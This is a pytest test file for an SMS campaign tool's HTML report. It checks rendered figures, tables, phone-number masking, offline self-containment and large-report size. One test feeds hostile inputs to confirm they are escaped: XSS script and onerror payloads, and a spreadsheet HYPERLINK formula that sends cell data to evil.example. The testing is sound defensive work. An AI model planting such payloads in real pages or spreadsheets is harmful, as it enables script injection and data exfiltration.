"""The HTML report: the right figures in the right places (parsed, not grepped), sections without
data saying so, user text escaped, nothing fetched from anywhere, and a small page for a big campaign."""

from __future__ import annotations

import time
from collections import Counter
from dataclasses import replace
from pathlib import Path

import pytest
from lxml.html import HtmlElement

from campaign.reports.data import ReasonCount, SendTimeline, Unavailable, format_duration
from campaign.reports.html import render_html, write_html
from tests.reports.builders import TEMPLATE, large_report, sample_report
from tests.reports.page import cells, one, parse, text


@pytest.fixture(scope="module")
def doc() -> HtmlElement:
    return parse(render_html(sample_report()))


def test_headline_figures(doc: HtmlElement) -> None:
    assert text(one(doc, "h1#campaign-name")) == "spring-sale"
    assert text(one(doc, "#origination-identity")) == "+12065550100"
    figure = {
        card: one(doc, f"#card-{card} .figure")
        for card in ("recipients", "sent", "delivered", "spend", "duration", "rate")
    }
    assert text(figure["recipients"]) == "9,350"
    assert figure["recipients"].get("data-value") == "9350"
    assert text(one(doc, "#card-recipients .sub")) == "of 9,700 imported rows"
    assert text(figure["sent"]) == "9,000"
    assert text(figure["delivered"]) == "96.7%"  # 8,700 of 9,000 sent
    assert text(one(doc, "#card-delivered .sub")) == "8,700 of 9,000 sent"
    assert text(figure["spend"]) == "$398.65"
    assert text(one(doc, "#spend-charged")) == "$396.32"
    assert text(figure["duration"]) == format_duration(550) == "9m10s"
    assert text(one(doc, "#card-duration .sub")) == "2 pauses"
    assert text(figure["rate"]) == "20 MPS"


def test_funnel_table(doc: HtmlElement) -> None:
    rows = {r.get("data-step"): r for r in doc.xpath("//section[@id='funnel']//tbody/tr")}
    assert list(rows) == ["Imported rows", "Valid", "Sent", "Delivered"]
    assert [cells(rows[s])[1] for s in rows] == ["9,700", "9,350", "9,000", "8,700"]
    assert cells(rows["Sent"])[2] == "92.8%"
    chips = {c.get("data-state"): text(c) for c in rows["Sent"].xpath(".//span[@data-state]")}
    assert chips == {
        "suppressed": "suppressed 60",
        "opted_out": "opted out 40",
        "failed": "failed 120",
        "unknown": "unknown 5",
        "expired": "expired 25",
        "pending": "pending 100",
    }
    delivered = [c.get("data-state") for c in rows["Delivered"].xpath(".//span[@data-state]")]
    assert delivered == ["undelivered", "awaiting"]
    assert one(doc, "figure#chart-funnel").xpath("./*[local-name()='svg']")


def test_send_over_time_runs_and_pauses(doc: HtmlElement) -> None:
    runs = {r.get("data-run"): cells(r) for r in doc.xpath("//table[@class='runs']/tbody/tr")}
    assert list(runs) == ["1", "2"]
    # run, started, ended, sending time, MPS, parts, throttles, how it ended
    assert runs["1"][1:] == [
        "2025-03-14 09:00",
        "2025-03-14 09:05",
        "5m00s",
        "20",
        "6,000",
        "24",
        "interrupted",
    ]
    assert runs["2"][3:7] == ["4m10s", "20", "3,500", "0"]
    pauses = doc.xpath("//ul[contains(@class, 'pauses')]/li")
    assert [p.get("data-cause") for p in pauses] == ["CTRL_C", "WINDOW"]
    assert text(pauses[0]).startswith("Paused 1h00m (Ctrl-C)")
    assert text(pauses[1]).startswith("Paused 30m00s (sending window)")
    svg = one(doc, "figure#chart-send-over-time").xpath("./*[local-name()='svg']")[0]
    labels = [" ".join(t.itertext()) for t in svg.xpath(".//*[local-name()='text']")]
    assert any("Ctrl-C · 1h00m" in label for label in labels)
    assert any("sending window · 30m00s" in label for label in labels)


def test_countries_table(doc: HtmlElement) -> None:
    rows = {
        r.get("data-country"): cells(r) for r in doc.xpath("//table[@class='countries']/tbody/tr")
    }
    # largest first, then the total; no "other" row for five countries
    assert list(rows) == ["US", "FR", "DE", "JP", "BR", "Total"]
    # country, recipients, parts, GSM-7/UCS-2, sent, estimated, charged, delivered
    assert rows["FR"] == [
        "FR",
        "2,500",
        "2,700",
        "92.0% / 8.0%",
        "2,420",
        "$195.40",
        "$190.12",
        "96.3%",
    ]
    assert rows["JP"][3] == "0.0% / 100.0%"
    assert rows["BR"][5:7] == ["—", "$3.20"]  # no price: no estimate, but a charge
    assert rows["Total"] == [
        "Total",
        "9,350",
        "10,250",
        "90.4% / 9.6%",
        "9,000",
        "$398.65",
        "$396.32",
        "96.7%",
    ]


def test_reasons_with_masked_examples(doc: HtmlElement) -> None:
    failures = doc.xpath("//section[@id='failures']//tbody/tr")
    assert [(r.get("data-state"), cells(r)[2]) for r in failures] == [
        ("invalid", "200"),
        ("failed", "120"),
        ("invalid", "100"),
        ("suppressed", "60"),
        ("opted_out", "40"),
        ("expired", "25"),
        ("unknown", "5"),
    ]
    failed = cells(failures[1])
    assert failed[0] == "ValidationException: DESTINATION_PHONE_NUMBER_INVALID"
    examples = failures[1].xpath(".//span[@data-row]")
    assert [e.get("data-row") for e in examples] == ["40", "57"]
    assert text(examples[0]) == "row 40 of customers.csv: +336••••••78"
    page = text(doc)
    assert "+33612345678" not in page and "612345" not in page
    undelivered = doc.xpath("//section[@id='non-delivery']//tbody/tr")
    assert [cells(r)[2] for r in undelivered] == ["150", "70", "30"]
    assert cells(undelivered[0])[0].startswith("TEXT_CARRIER_UNREACHABLE")


def test_message_section(doc: HtmlElement) -> None:
    assert one(doc, "pre#template").text_content() == TEMPLATE
    assert text(one(doc, "#template-encoding")) == "GSM-7"
    parts = [cells(r) for r in doc.xpath("//table[@class='parts']/tbody/tr")]
    assert parts == [["1", "GSM-7", "8,450"], ["2", "UCS-2", "900"]]
    chars = {
        r.get("data-character"): cells(r) for r in doc.xpath("//table[@class='ucs2']/tbody/tr")
    }
    assert chars["’"] == ["’ RIGHT SINGLE QUOTATION MARK", "column:first_name", "600", "600"]
    assert chars["ł"][2:] == ["300", "300"]


def test_sections_without_data_say_so_instead_of_drawing() -> None:
    report = replace(
        sample_report(events=False),
        timeline=Unavailable("Nothing sent yet: run campaign send."),
        countries=Unavailable("No valid recipients yet."),
        failures=(),
    )
    doc = parse(render_html(report))
    for section, reason in [
        ("timeline", "Nothing sent yet: run campaign send."),
        ("countries", "No valid recipients yet."),
        ("non-delivery", "No delivery events ingested yet (campaign events ingest)."),
    ]:
        element = one(doc, f"section#{section}")
        assert element.get("data-status") == "unavailable"
        assert text(one(element, "p.unavailable")) == f"Not available yet. {reason}"
        assert not element.xpath(".//*[local-name()='svg'] | .//table")
    assert doc.xpath("//figure[@id='chart-funnel']")  # the funnel exists without events
    assert not doc.xpath("//figure[@id='chart-send-over-time' or @id='chart-countries']")
    assert text(one(doc, "section#failures p.note")).startswith("Nobody failed")
    delivered = one(doc, "section#funnel tr[data-step=Delivered]")
    assert cells(delivered)[1] == "—"
    assert cells(delivered)[3].startswith("Not available yet: No delivery events")
    assert text(one(doc, "#card-delivered .figure")) == "—"
    assert text(one(doc, "#spend-charged")) == "not known yet"


HOSTILE_NAME = '<script>alert("x")</script> =HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE_REASON = (
    '<img src=x onerror=alert(1)> @SUM(1+1) </td></tr></table><a href="http://evil.example">'
)


def test_user_text_is_escaped() -> None:
    report = sample_report(campaign=HOSTILE_NAME)
    report = replace(
        report,
        failures=(ReasonCount("failed", HOSTILE_REASON, 3),),
        message=replace(report.message, template="</pre><script>steal()</script>{name}"),
        notes=("<b>bold?</b>",),
    )
    page = render_html(report)
    doc = parse(page)
    assert not doc.xpath("//script | //img | //a | //iframe | //object | //embed | //b[.='bold?']")
    assert not [a for e in doc.iter() for a in e.attrib if a.lower().startswith("on")]
    assert text(one(doc, "h1#campaign-name")) == " ".join(HOSTILE_NAME.split())
    assert doc.xpath("//title")[0].text_content().startswith(HOSTILE_NAME)
    assert text(one(doc, "section#failures td.reason")) == " ".join(HOSTILE_REASON.split())
    assert one(doc, "pre#template").text_content() == "</pre><script>steal()</script>{name}"
    assert "<script" not in page.lower()


def test_page_is_self_contained_and_ids_are_unique(doc: HtmlElement) -> None:
    assert not doc.xpath("//script | //link | //img | //iframe | //object | //embed | //a")
    refs = []
    for element in doc.iter():
        for name, value in element.attrib.items():
            if name.endswith("href") or name == "src":
                refs.append(value)
    assert refs and all(r.startswith("#") for r in refs), refs[:5]  # SVG's own markers only
    style = "".join(s.text_content() for s in doc.xpath("//style"))
    assert "@import" not in style and "url(" not in style
    ids = Counter(e.get("id") for e in doc.iter() if e.get("id"))
    assert [i for i, n in ids.items() if n > 1] == []
    for ref in refs:
        assert ref[1:] in ids  # every chart's reference stays within the chart


def test_same_report_same_page() -> None:
    assert render_html(sample_report()) == render_html(sample_report())


def test_large_campaign_page_is_small(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    report = large_report()
    assert report.funnel.imported == 1_000_000
    assert isinstance(report.timeline, SendTimeline)
    assert sum(len(r.buckets) for r in report.timeline.runs) == 54_000
    started = time.perf_counter()
    size = write_html(report, tmp_path / "large.html")
    elapsed = time.perf_counter() - started
    with capsys.disabled():
        print(f"\n  large report: {size / 1e6:.2f} MB in {elapsed:.2f} s")
    assert size == (tmp_path / "large.html").stat().st_size
    assert size < 2_000_000
    assert elapsed < 15  # the bound, far above what it takes
    doc = parse((tmp_path / "large.html").read_text("utf-8"))
    countries = doc.xpath("//table[@class='countries']/tbody/tr")
    assert len(countries) == 25 + 2  # the 25 largest, the 175 others as one row, the total
    assert cells(countries[-2])[:2] == ["175 other countries", f"{175 * 5000:,}"]
    assert cells(countries[-1])[1] == "1,000,000"


def test_runs_without_sending_time_and_no_countries_say_so() -> None:
    report = sample_report()
    timeline = report.timeline
    assert not isinstance(timeline, Unavailable)
    instant = tuple(replace(r, ended_at=r.started_at, buckets=(), pauses=()) for r in timeline.runs)
    doc = parse(
        render_html(replace(report, timeline=replace(timeline, runs=instant), countries=()))
    )
    assert text(one(doc, "section#timeline p.unavailable")).startswith("Nothing to draw yet.")
    assert len(doc.xpath("//table[@class='runs']/tbody/tr")) == 2  # the runs are still listed
    assert text(one(doc, "section#countries p.unavailable")).startswith("No countries yet.")
    assert not doc.xpath("//figure[@id='chart-send-over-time' or @id='chart-countries']")
